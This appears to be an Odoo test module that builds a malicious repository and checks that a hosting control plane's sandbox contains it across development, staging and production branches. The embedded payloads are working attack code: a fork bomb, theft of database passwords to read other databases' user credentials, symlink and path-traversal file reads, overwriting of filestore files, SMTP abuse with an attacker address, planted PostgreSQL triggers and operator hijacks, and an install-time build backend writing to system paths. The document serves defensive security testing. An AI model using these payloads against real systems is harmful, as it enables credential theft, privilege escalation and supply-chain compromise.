"""A malicious repository pushed in turn to a development, a staging and a production
branch, written as an attacker who controls only the branch's content would write it.

Its module ``shop`` runs the attacks from module code (a ``<function>`` of its data, at
install and at every update) and from its ``data/neutralize.sql``; its
``requirements.txt`` names a package whose in-tree build backend runs at image build
time. What each attack obtained is written in the branch's own database (a table the
attacker controls), and every test then asserts what a user would notice: nothing of the
control plane, of production or of another database reached, nothing planted run by the
control plane, nothing left behind. A failing subtest is a weakness."""

import hashlib
import json
import logging
import os
import shutil
from pathlib import Path

from odoo.tests import tagged
from odoo.tools import config

from odoo.addons.ipai_ops_core.tests.common import drop_database_now, maintenance_spec

from ipai_ops.connection import connection
from ipai_ops.runtime import engine

from .test_builds import git
from .test_production_builds import RunningBuildsCase, serves
from .test_staging_builds import free_port, remove_catcher, rows

_logger = logging.getLogger(__name__)
CUSTOMER_EMAIL = "jane.doe.attack@customer.example"

MODELS_PY = r'''
import json
import os
import signal
import smtplib
import socket
import time

import psycopg2

from odoo import api, models

from . import attack_conf as conf

OWNER_MARK = "ipai-attack"

PLANT = """
CREATE TABLE IF NOT EXISTS public.ipai_stolen (who text, super boolean, what text);
GRANT ALL ON public.ipai_stolen TO PUBLIC;
CREATE OR REPLACE FUNCTION public.ipai_note() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN
  IF current_user <> '%(owner)s' THEN
    INSERT INTO public.ipai_stolen SELECT current_user, rolsuper,
      'trigger ' || TG_TABLE_NAME || ' in: ' || pg_catalog.current_query()
      FROM pg_catalog.pg_roles WHERE rolname = current_user;
  END IF;
  RETURN NULL;
END $f$;
CREATE OR REPLACE FUNCTION public.ipai_eq(a varchar, b varchar) RETURNS boolean
LANGUAGE plpgsql AS $f$
BEGIN
  IF current_user <> '%(owner)s' THEN
    INSERT INTO public.ipai_stolen SELECT current_user, rolsuper,
      'operator = in: ' || pg_catalog.current_query()
      FROM pg_catalog.pg_roles WHERE rolname = current_user;
  END IF;
  RETURN a::text OPERATOR(pg_catalog.=) b::text;
END $f$;
DO $d$ BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_catalog.pg_operator o JOIN pg_catalog.pg_namespace n
                 ON n.oid = o.oprnamespace WHERE n.nspname = 'public' AND o.oprname = '=') THEN
    CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar,
                              FUNCTION = public.ipai_eq);
  END IF;
END $d$;
"""
TABLES = ("res_partner", "res_users", "ir_config_parameter", "ir_mail_server", "ir_cron",
          "ir_attachment", "ir_module_module")


def plant(cr):
    cr.execute("SELECT current_user")
    owner = cr.fetchone()[0]
    cr.execute(PLANT % {"owner": owner})
    for table in TABLES:
        cr.execute(f"DROP TRIGGER IF EXISTS ipai_note ON public.{table}")
        cr.execute(f"CREATE TRIGGER ipai_note AFTER INSERT OR UPDATE OR DELETE ON public.{table}"
                   " FOR EACH STATEMENT EXECUTE FUNCTION public.ipai_note()")


class ResPartner(models.Model):
    _inherit = "res.partner"

    @api.model
    def _ipai_attack(self):
        cr = self.env.cr
        cr.execute("CREATE TABLE IF NOT EXISTS public.ipai_attack (key text PRIMARY KEY,"
                   " value text); GRANT ALL ON public.ipai_attack TO PUBLIC")
        found = {}

        def note(key, value):
            found[key] = str(value)

        # what the image build's requirement obtained
        try:
            import ipai_probe_results
            note("build", json.dumps(ipai_probe_results.RESULTS))
        except ImportError as exc:
            note("build", json.dumps({"imported": repr(exc)}))
        # raw sockets
        try:
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
            note("raw_socket", "opened")
        except OSError as exc:
            note("raw_socket", f"refused: {exc}")
        # a fork bomb, bounded so that the test machine survives it
        children = []
        try:
            for _ in range(conf.FORKS):
                pid = os.fork()
                if pid == 0:
                    time.sleep(60)
                    os._exit(0)
                children.append(pid)
        except OSError as exc:
            note("fork_error", exc)
        note("forked", len(children))
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)
        # the instance's password file and what it opens
        lines = open(os.environ["PGPASSFILE"]).read().strip().splitlines()
        note("pgpass_lines", len(lines))
        host, port, database, user, password = lines[0].split(":", 4)
        note("pgpass_password_length", len(password))
        note("pgpass_database", ",".join(line.split(":")[2] for line in lines))
        note("pgpass_user", user)
        cr.execute("SELECT datname FROM pg_database WHERE NOT datistemplate")
        for (name,) in cr.fetchall():
            if name == cr.dbname:
                continue
            try:
                other = psycopg2.connect(host=host, port=port, user=user, password=password,
                                         dbname=name, connect_timeout=5)
            except psycopg2.Error as exc:
                note(f"db:{name}", f"no connection: {str(exc).strip()[-160:]}")
                continue
            try:
                with other.cursor() as ocr:
                    ocr.execute("SELECT string_agg(login || ':' || coalesce(password, ''), ',')"
                                " FROM res_users")
                    note(f"db:{name}", f"read {ocr.fetchone()[0]}")
            except psycopg2.Error as exc:
                note(f"db:{name}", f"connected, refused: {exc.pgcode}")
            finally:
                other.close()
        # files named by the database, and a link planted in the filestore
        Attachment = self.env["ir.attachment"].sudo()
        root = Attachment._filestore()
        os.makedirs(os.path.join(root, "zz"), exist_ok=True)
        link = os.path.join(root, "zz", "a" * 40)
        if not os.path.lexists(link):
            os.symlink(conf.SECRET_FILE, link)
        for name, fname in (("absolute", conf.SECRET_FILE), ("dotdot", conf.SECRET_DOTDOT),
                            ("link", "zz/" + "a" * 40)):
            cr.execute("INSERT INTO ir_attachment (name, store_fname, checksum, file_size,"
                       " mimetype, type, res_model) VALUES (%s, %s, 'x', 1, 'text/plain',"
                       " 'binary', 'res.partner')", [f"ipai-{name}", fname])
        # production's files, from a copy: rewritten in place
        rewritten = 0
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(dirpath, name)
                if os.path.islink(path):
                    continue
                try:
                    with open(path, "r+b") as handle:
                        handle.write(b"PWNED")
                    rewritten += 1
                except OSError:
                    pass
        note("rewritten", rewritten)
        # mail filed under another database at the host's catcher
        cr.execute("SELECT smtp_host, smtp_port, smtp_user, smtp_pass FROM ir_mail_server"
                   " WHERE active ORDER BY sequence LIMIT 1")
        server = cr.fetchone()
        note("mail_server", json.dumps(server))
        if server and server[0]:
            for login, secret in ((conf.OTHER_DB, server[3] or ""), (conf.OTHER_DB, "guess"),
                                  (None, None)):
                key = f"mail:{login}:{'own' if secret == server[3] else secret}"
                try:
                    with smtplib.SMTP(server[0], server[1], timeout=10) as smtp:
                        if login:
                            smtp.login(login, secret)
                        smtp.sendmail("evil@attacker.example", ["victim@customer.example"],
                                      f"Subject: planted by {cr.dbname}\r\n\r\nhello\r\n")
                    note(key, "sent")
                except (smtplib.SMTPException, OSError) as exc:
                    note(key, f"refused: {exc}")
        # a trigger and a public operator, hoping the control plane runs them
        plant(cr)
        for key, value in found.items():
            cr.execute("INSERT INTO public.ipai_attack VALUES (%s, %s) ON CONFLICT (key)"
                       " DO UPDATE SET value = EXCLUDED.value", [key, value])
'''

NEUTRALIZE_SQL = r"""
-- the branch's script: sees the copy, plants code for the control plane to run
CREATE TABLE IF NOT EXISTS public.ipai_seen (email text);
GRANT ALL ON public.ipai_seen TO PUBLIC;
INSERT INTO public.ipai_seen SELECT email FROM res_partner WHERE email IS NOT NULL;
CREATE TABLE IF NOT EXISTS public.ipai_stolen (who text, super boolean, what text);
GRANT ALL ON public.ipai_stolen TO PUBLIC;
CREATE OR REPLACE FUNCTION public.ipai_nnote() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN
  IF NOT pg_has_role(current_user, (SELECT datdba FROM pg_database
                                    WHERE datname = current_database()), 'USAGE')
     OR (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    INSERT INTO public.ipai_stolen SELECT current_user, rolsuper,
      'neutralize ' || TG_TABLE_NAME || ' in: ' || pg_catalog.current_query()
      FROM pg_catalog.pg_roles WHERE rolname = current_user;
  END IF;
  RETURN NULL;
END $f$;
DROP TRIGGER IF EXISTS ipai_nnote ON public.res_partner;
CREATE TRIGGER ipai_nnote AFTER INSERT OR UPDATE OR DELETE ON public.res_partner
  FOR EACH STATEMENT EXECUTE FUNCTION public.ipai_nnote();
DROP TRIGGER IF EXISTS ipai_nnote ON public.ir_config_parameter;
CREATE TRIGGER ipai_nnote AFTER INSERT OR UPDATE OR DELETE ON public.ir_config_parameter
  FOR EACH STATEMENT EXECUTE FUNCTION public.ipai_nnote();
DROP TRIGGER IF EXISTS ipai_nnote ON public.ir_mail_server;
CREATE TRIGGER ipai_nnote AFTER INSERT OR UPDATE OR DELETE ON public.ir_mail_server
  FOR EACH STATEMENT EXECUTE FUNCTION public.ipai_nnote();
CREATE OR REPLACE FUNCTION public.ipai_neq(a varchar, b varchar) RETURNS boolean
LANGUAGE plpgsql AS $f$
BEGIN
  IF (SELECT rolsuper OR rolcreaterole FROM pg_catalog.pg_roles WHERE rolname = current_user)
  THEN
    INSERT INTO public.ipai_stolen SELECT current_user, rolsuper,
      'neutralize operator = in: ' || pg_catalog.current_query()
      FROM pg_catalog.pg_roles WHERE rolname = current_user;
  END IF;
  RETURN a::text OPERATOR(pg_catalog.=) b::text;
END $f$;
DO $d$ BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_catalog.pg_operator o JOIN pg_catalog.pg_namespace n
                 ON n.oid = o.oprnamespace WHERE n.nspname = 'public' AND o.oprname = '=') THEN
    CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.ipai_neq);
  END IF;
END $d$;
"""

BACKEND_PY = r'''
"""An in-tree PEP 517 backend: pip runs it at install time, as whoever installs."""
import base64
import hashlib
import os
import zipfile

NAME, VERSION = "ipai_probe", "1.0"


def _attack():
    found = {"uid": os.getuid(), "euid": os.geteuid()}
    for path in ("/etc/ipai-pwned", "/usr/bin/ipai-pwned", "/usr/local/bin/ipai-pwned",
                 "/mnt/extra-addons/0/shop/ipai-pwned",
                 "/usr/lib/python3/dist-packages/odoo/ipai-pwned"):
        try:
            with open(path, "w") as handle:
                handle.write("pwned")
            found[path] = "written"
        except OSError as exc:
            found[path] = f"refused: {exc.errno}"
    return found


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {
        "ipai_probe_results.py": f"RESULTS = {_attack()!r}\n",
        f"{NAME}-{VERSION}.dist-info/METADATA":
            f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n",
        f"{NAME}-{VERSION}.dist-info/WHEEL":
            "Wheel-Version: 1.0\nGenerator: ipai\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{name},sha256={digest.decode()},{len(text.encode())}")
    record.append(f"{NAME}-{VERSION}.dist-info/RECORD,,")
    files[f"{NAME}-{VERSION}.dist-info/RECORD"] = "\n".join(record) + "\n"
    wheel = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as out:
        for name, text in files.items():
            out.writestr(name, text)
    return wheel
'''

PYPROJECT = """[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "ipai_probe"
version = "1.0"
"""

ATTACK_XML = """<odoo>
    <function model="res.partner" name="_ipai_attack" />
</odoo>
"""


def attack_results(database: str) -> dict[str, str]:
    found = dict(rows(database, "SELECT key, value FROM public.ipai_attack"))
    _logger.info("what the branch's code obtained in %s: %s", database, found)
    return found


def stolen(database: str) -> list[tuple]:
    found = rows(
        database, "SELECT count(*) FROM pg_class WHERE oid = to_regclass('public.ipai_stolen')"
    )
    if not found[0][0]:
        return []
    found = rows(database, "SELECT DISTINCT who, super, what FROM public.ipai_stolen")
    _logger.info("planted code the control plane ran in %s: %s", database, found)
    return found


def digests(root: Path) -> dict[str, tuple[str, int, int]]:
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            stat = path.stat()
            out[str(path.relative_to(root))] = (
                hashlib.sha256(path.read_bytes()).hexdigest(),
                stat.st_ino,
                stat.st_uid,
            )
    return out


class BranchAttackCase(RunningBuildsCase):
    """The malicious repository, the secret the attacker is after (an environment
    role's password file in the control plane's data directory) and the checks."""

    def setUp(self):
        super().setUp()
        self.development = self.envs_a["development"]
        self.staging = self.envs_a["staging"]
        for environment in (self.development, self.staging):
            environment.sudo().write(
                {"runtime_host_id": self.host.id, "backup_target_id": self.target.id}
            )
        self.host.mail_catcher_port = free_port()
        self.project_a.sudo().write({"mail_catcher": False, "dev_admin_password": "attack-pw"})
        self.addCleanup(remove_catcher, self.client)
        # the secret: the staging role's password file (staging logs in once)
        self.roles_dir = Path(config["data_dir"]) / "ipai_ops" / "roles"
        self.staging._database_login()
        self.secret_file = self.roles_dir / self.staging._role_name()
        self.secret = self.secret_file.read_text(encoding="ascii").strip()
        self.assertTrue(self.secret, "the fixture has no secret to steal")

    def write_benign(self, version: str) -> None:
        """The code production runs before the attacker's branch."""
        shop = self.work / "shop"
        shop.mkdir(exist_ok=True)
        manifest = {"name": "Shop", "version": version, "license": "LGPL-3",
                    "depends": ["base", "mail"]}  # fmt: skip
        (shop / "__manifest__.py").write_text(repr(manifest))
        (shop / "__init__.py").write_text("")

    def write_repository(self, version: str, other_db: str) -> None:
        shop = self.work / "shop"
        (shop / "data").mkdir(parents=True, exist_ok=True)
        manifest = {
            "name": "Shop",
            "version": version,
            "license": "LGPL-3",
            "depends": ["base", "mail"],
            "data": ["data/attack.xml"],
        }
        (shop / "__manifest__.py").write_text(repr(manifest))
        (shop / "__init__.py").write_text("from . import models\n")
        (shop / "models.py").write_text(MODELS_PY)
        (shop / "data" / "attack.xml").write_text(ATTACK_XML)
        (shop / "data" / "neutralize.sql").write_text(NEUTRALIZE_SQL)
        filestore_parent = Path(config.filestore("x")).parent
        dotdot = os.path.relpath(self.secret_file, filestore_parent / "db")
        (shop / "attack_conf.py").write_text(
            f"SECRET_FILE = {str(self.secret_file)!r}\nSECRET_DOTDOT = {dotdot!r}\n"
            f"OTHER_DB = {other_db!r}\nFORKS = 1500\n"
        )
        probe = self.work / "ipai_probe"
        probe.mkdir(exist_ok=True)
        (probe / "backend.py").write_text(BACKEND_PY)
        (probe / "pyproject.toml").write_text(PYPROJECT)
        (self.work / "requirements.txt").write_text("/mnt/extra-addons/0/ipai_probe\n")

    def push(self, version: str, branch: str, other_db: str = "", benign: bool = False) -> str:
        if benign:
            self.write_benign(version)
        else:
            self.write_repository(version, other_db)
        git(self.work, "add", "-A")
        git(self.work, "commit", "-q", "-m", f"Shop {version}")
        git(self.work, "push", "-q", "origin", f"HEAD:{branch}")
        return git(self.work, "rev-parse", "HEAD")

    def build_of(self, commit: str, environment):
        self.env["ipai.ops.project"]._cron_poll_repositories()
        build = self.project_a.build_ids.filtered(
            lambda b: b.commit == commit and b.environment_id == environment
        )
        self.assertEqual(build.run_id.kind, "build", "the build was not queued to run")
        self.process_runs()
        if build.database_name:
            self.addCleanup(drop_database_now, build.database_name)
            self.addCleanup(
                shutil.rmtree, config.filestore(build.database_name), ignore_errors=True
            )
        return build

    # --- what every stage's checks share ---------------------------------------------

    def assert_container_attacks_refused(self, results: dict, stage: str, database: str):
        build = json.loads(results.get("build", "{}"))
        with self.subTest(attack="requirements.txt build code", stage=stage):
            self.assertIn("uid", build, f"the build backend's results are missing: {build}")
            self.assertNotEqual(build.get("uid"), 0, "the requirement was built as root")
            written = [path for path, what in build.items() if what == "written"]
            self.assertEqual(written, [], "the requirement's build code wrote outside")
        with self.subTest(attack="raw socket", stage=stage):
            self.assertTrue(results["raw_socket"].startswith("refused"), results["raw_socket"])
        with self.subTest(attack="fork bomb", stage=stage):
            self.assertLessEqual(int(results["forked"]), 600, "no process limit held")
        with self.subTest(attack="password file names its own database only", stage=stage):
            # and the maintenance database, where Odoo looks its own up at every start
            named = set(results["pgpass_database"].split(","))
            self.assertIn(database, named)
            self.assertLessEqual(named, {database, "postgres"})
        with self.subTest(attack="read other databases with the instance's password", stage=stage):
            read = {k: v for k, v in results.items() if k.startswith("db:") and "read" in v}
            self.assertEqual(read, {}, "branch code read another database's users")
            self.assertNotIn(self.secret, json.dumps(results))

    def assert_nothing_planted_ran(self, database: str, stage: str, environment):
        """Planted code may run as the role the branch runs as, never as another."""
        own = environment._database_login()
        own = own.user if own else None
        with self.subTest(attack="planted trigger / public operator", stage=stage):
            ran = [row for row in stolen(database) if row[0] != own]
            self.assertEqual(ran, [], "the control plane ran the branch's planted code")

    def assert_backup_reads_no_outside_file(self, environment, stage: str):
        """A member asks for a backup, then downloads it as an Odoo zip."""
        before = {run.id for run in environment.run_ids}
        environment.action_backup_now()
        self.process_runs()
        [run] = environment.run_ids.filtered(lambda r: r.id not in before and r.kind == "backup")
        with self.subTest(attack="store_fname absolute / .. / link: backup", stage=stage):
            self.assertEqual(run.state, "done", run.error)
            backup = self.env["ipai.ops.backup"].search(
                [("environment_id", "=", environment.id)], order="id desc", limit=1
            )
            target = backup.target_id._engine_target()
            manifest = json.loads((target.set_path(backup.set_id) / "manifest.json").read_text())
            refused = manifest["filestore"].get("refused_count")
            self.assertGreaterEqual(refused or 0, 3, manifest["filestore"].get("refused"))
            for _name, path in target.iter_blobs():
                self.assertNotIn(self.secret.encode(), path.read_bytes(), "secret in a blob")
            from odoo.addons.ipai_ops_backup.controllers.download import (  # noqa: PLC0415
                stream_zip,
            )

            whole = b"".join(stream_zip(target, backup.set_id))
            self.assertGreater(len(whole), 0)
            self.assertNotIn(self.secret.encode(), whole, "the secret is in the download")

    def assert_nothing_left(self, stage: str):
        with self.subTest(attack="nothing left behind", stage=stage):
            left = [
                c.name
                for c in self.client.containers.list(all=True, filters=engine.managed_filters())
                if c.labels.get(engine.ROLE) in ("once", "tests")
            ]
            self.assertEqual(left, [], "one-off containers were left behind")
            for path in ("/etc/ipai-pwned", "/usr/bin/ipai-pwned"):
                self.assertFalse(os.path.exists(path), f"{path} on the host")
            self.assertTrue(self.secret_file.is_file(), "the role's password file is gone")


@tagged("post_install", "-at_install", "ipai_attack_branches")
class TestDevelopmentBranchAttack(BranchAttackCase):
    def test_a_malicious_development_branch_reaches_nothing_beyond_its_environment(self):
        commit = self.push("19.0.1.0.0", "main", other_db=self.prod_db)
        build = self.build_of(commit, self.development)
        self.assertEqual(build.run_id.state, "done", build.run_id.error)
        database = build.database_name
        results = attack_results(database)
        self.assertIn("forked", results, "the module's attack did not run")
        self.assert_container_attacks_refused(results, "development", database)
        self.assert_backup_reads_no_outside_file(self.development, "development")
        self.development.action_run_check()
        self.process_runs()
        self.assert_nothing_planted_ran(database, "development", self.development)
        self.assert_nothing_left("development")


@tagged("post_install", "-at_install", "ipai_attack_branches")
class TestStagingBranchAttack(BranchAttackCase):
    def test_a_malicious_staging_branch_reaches_nothing_beyond_its_copy(self):
        self.production.sudo().branch = False
        released = self.push("19.0.1.0.0", "released", benign=True)
        self.production_database_with_shop(released, also="mail")  # production's own code
        with (
            connection(maintenance_spec().for_database(self.prod_db)) as conn,
            conn.cursor() as cr,
        ):
            cr.execute(
                "INSERT INTO res_partner (name, email, active, type)"
                " VALUES ('Jane Doe', %s, true, 'contact')",
                [CUSTOMER_EMAIL],
            )
        prod_files = Path(config.filestore(self.prod_db))
        before = digests(prod_files)
        self.assertTrue(before, "production has no files to protect")

        build = self.build_of(self.push("19.0.1.1.0", "staging", self.prod_db), self.staging)
        self.assertEqual(build.run_id.state, "done", build.run_id.error)
        database = build.database_name
        results = attack_results(database)
        self.assertIn("forked", results, "the module's attack did not run on update")
        self.assert_container_attacks_refused(results, "staging", database)
        with self.subTest(attack="neutralize.sql sees production's data unmasked"):
            seen = [email for (email,) in rows(database, "SELECT email FROM public.ipai_seen")]
            self.assertTrue(seen, "the branch's neutralize.sql did not run")
            self.assertNotIn(CUSTOMER_EMAIL, seen, "the branch's SQL saw unmasked data")
        with self.subTest(attack="opening production's files from a copy"):
            self.assertGreater(int(results["rewritten"]), 0, "the copy has no files")
            self.assertEqual(digests(prod_files), before, "production's files changed")
        with self.subTest(attack="mail filed under another database"):
            sent = {k: v for k, v in results.items() if k.startswith("mail:") and v == "sent"}
            self.assertEqual(sent, {}, "the catcher took a mail under another login")
            self.env["ipai.ops.mail"]._cron_collect()
            self.assertFalse(self.production.mail_ids, "a mail was filed under production")
        self.assert_backup_reads_no_outside_file(self.staging, "staging")
        self.staging.action_run_check()
        self.process_runs()
        self.assert_nothing_planted_ran(database, "staging", self.staging)
        self.assertTrue(serves(self.staging.instance_url), "staging does not serve the build")
        self.assert_nothing_left("staging")


@tagged("post_install", "-at_install", "ipai_attack_branches")
class TestProductionBranchAttack(BranchAttackCase):
    def test_a_malicious_production_branch_reaches_no_other_database(self):
        released = self.push("19.0.1.0.0", "released", benign=True)
        self.production_database_with_shop(released, also="mail")  # before the attacker
        commit = self.push("19.0.1.1.0", "production", other_db=self.env.cr.dbname)
        build = self.build_of(commit, self.production)  # its first build: -u shop
        self.assertEqual(build.run_id.state, "done", build.run_id.error)
        results = attack_results(self.prod_db)
        self.assertIn("forked", results, "the module's attack did not run on update")
        self.assert_container_attacks_refused(results, "production", self.prod_db)
        with self.subTest(attack="read the control plane's database from production"):
            mine = results.get(f"db:{self.env.cr.dbname}", "")
            self.assertNotIn("read", mine, "production's code read the control plane's users")
        self.assertTrue(serves(self.production.instance_url), "production does not serve")
        self.assert_nothing_left("production")
